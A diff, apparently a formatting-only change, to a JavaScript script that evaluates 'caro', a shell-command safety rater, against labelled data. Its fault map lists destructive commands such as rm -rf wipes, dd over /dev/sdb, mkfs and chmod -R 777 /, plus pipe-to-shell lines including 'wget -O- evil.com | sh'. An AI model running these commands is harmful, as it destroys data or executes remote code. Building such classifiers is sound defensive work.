@@ -12,8 +12,10 @@ import { rateCommand } from "../dist/safety/rate.js";
 const DEFAULT_DATA = fileURLToPath(new URL("../../shared/data/caro_safety_cases.tsv", import.meta.url));
 const LEVELS = ["safe", "moderate", "high", "critical"];
 
-const SAME_WIPES = "the data rates the same wipes `rm -rf .`, `rm -rf ..` and `rm -rf *` high; emptying the current or parent folder is high unless that folder is /, ~ or a system folder, where caro rates it critical from the cwd";
-const TEMPORARY = "a temporary folder: the data's own README says its engine over-matches `rm /tmp/x`, and it rates `rm -rf /tmp/cache` safe";
+const SAME_WIPES =
+  "the data rates the same wipes `rm -rf .`, `rm -rf ..` and `rm -rf *` high; emptying the current or parent folder is high unless that folder is /, ~ or a system folder, where caro rates it critical from the cwd";
+const TEMPORARY =
+  "a temporary folder: the data's own README says its engine over-matches `rm /tmp/x`, and it rates `rm -rf /tmp/cache` safe";
 
 /** Rows whose label caro judges wrong, and why. */
 export const DATA_FAULTS = {
@@ -26,12 +28,16 @@ export const DATA_FAULTS = {
   "rm -rf /tmp/other_app": TEMPORARY,
   "rm -rf /data/tmp/*": TEMPORARY,
   "rm -rf ~/backups/db*": "deletes some folders inside the home directory, not the home directory itself: high",
-  "Remove-Item -Recurse -Force C:\\temp": "a recursive delete of one named temporary folder, not of a drive or system folder: high",
-  "curl | bash": "the same pattern as `curl https://… | sh`, which the data rates high; without a URL it even downloads nothing",
+  "Remove-Item -Recurse -Force C:\\temp":
+    "a recursive delete of one named temporary folder, not of a drive or system folder: high",
+  "curl | bash":
+    "the same pattern as `curl https://… | sh`, which the data rates high; without a URL it even downloads nothing",
   "wget -O- | sh": "the same pattern as `wget -O- evil.com | sh`, which the data rates high",
-  "systemctl stop firewalld": "stopping a firewall destroys nothing and is undone by starting it: high, as the data rates `ufw disable` and `iptables -F`",
+  "systemctl stop firewalld":
+    "stopping a firewall destroys nothing and is undone by starting it: high, as the data rates `ufw disable` and `iptables -F`",
   "dd if=/dev/zero": "without of= dd writes to standard output: no file or disk is touched",
-  "dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress": "writes over the whole disk /dev/sdb; the data rates `dd … of=/dev/sda` critical",
+  "dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress":
+    "writes over the whole disk /dev/sdb; the data rates `dd … of=/dev/sda` critical",
   "mkfs.vfat /dev/sdc1": "formats a partition, destroying what is on it; the data rates `mkfs.ext4 /dev/sda1` critical",
   "chmod -R 777 /": "makes every file on the system writable by everyone; the data rates `chmod -R 777 /etc` critical",
   "chmod 777 /": "opens / to every user for writing; the data rates `chmod 777 /etc` critical",
@@ -58,7 +64,9 @@ function readRows(path) {
 async function main() {
   const data = process.argv[2] ?? DEFAULT_DATA;
   if (!existsSync(data)) {
-    console.error(`safety-eval: no labelled data at ${data}: pass the path of caro_safety_cases.tsv (CI keeps it in ../shared/data)`);
+    console.error(
+      `safety-eval: no labelled data at ${data}: pass the path of caro_safety_cases.tsv (CI keeps it in ../shared/data)`,
+    );
     process.exit(2);
   }
   const rows = readRows(data);
@@ -74,7 +82,9 @@ async function main() {
     const fault = DATA_FAULTS[row.command];
     if (fault) judged.push({ ...entry, fault });
     else others.push(entry);
-    const targetMissed = (row.expected === "critical" && rating.risk !== "critical") || (row.expected === "safe" && ["high", "critical"].includes(rating.risk));
+    const targetMissed =
+      (row.expected === "critical" && rating.risk !== "critical") ||
+      (row.expected === "safe" && ["high", "critical"].includes(rating.risk));
     if (targetMissed && !fault) missed.push(entry);
   }
 
@@ -86,7 +96,8 @@ async function main() {
 
   console.log(`caro's safety rating against ${rows.length} labelled commands\n`);
   console.log(`${"label \\ caro".padEnd(14)}${LEVELS.map((l) => l.padStart(10)).join("")}`);
-  for (const l of LEVELS) console.log(`${l.padEnd(14)}${LEVELS.map((m) => String(matrix[l][m]).padStart(10)).join("")}`);
+  for (const l of LEVELS)
+    console.log(`${l.padEnd(14)}${LEVELS.map((m) => String(matrix[l][m]).padStart(10)).join("")}`);
   const agree = LEVELS.reduce((n, l) => n + matrix[l][l], 0);
   console.log(`\nagree on ${agree} of ${rows.length}`);
   console.log(`\nDisagreements judged to be the data's fault (${judged.length}):`);
